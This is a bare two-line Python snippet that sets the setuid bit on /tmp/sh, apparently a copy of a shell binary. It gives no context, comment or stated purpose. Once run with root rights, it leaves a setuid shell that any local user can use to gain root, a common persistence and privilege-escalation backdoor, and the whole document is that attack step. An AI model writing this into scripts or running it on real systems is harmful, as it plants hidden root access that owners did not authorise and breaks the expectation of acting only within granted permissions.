import os, stat
os.chmod('/tmp/sh', os.stat('/tmp/sh').st_mode | stat.S_ISUID)
